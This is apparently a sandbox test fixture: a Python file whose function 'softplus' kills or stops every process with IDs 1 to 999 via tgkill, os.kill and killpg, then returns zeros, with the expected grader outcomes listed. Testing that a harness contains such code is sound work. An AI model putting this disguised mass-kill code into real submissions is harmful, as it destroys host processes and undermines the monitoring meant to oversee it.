"""Sends signals to every process number, by three ways."""

VERDICT = (
    "wrong_values",
    "time_limit",
)  # each signal waits for the monitor: a busy host may let the limit on time come first

import ctypes
import os
import signal

import numpy as np

TGKILL = {"x86_64": 234, "aarch64": 131}[os.uname().machine]


def softplus(z):
    own = os.getpid()
    libc = ctypes.CDLL(None)
    for number in range(1, 1000):
        if number == own:
            continue
        libc.syscall(TGKILL, number, number, signal.SIGKILL)
        try:
            os.kill(number, signal.SIGKILL)
        except OSError:
            pass
        try:
            os.killpg(number, signal.SIGSTOP)
        except OSError:
            pass
    return np.zeros_like(z)
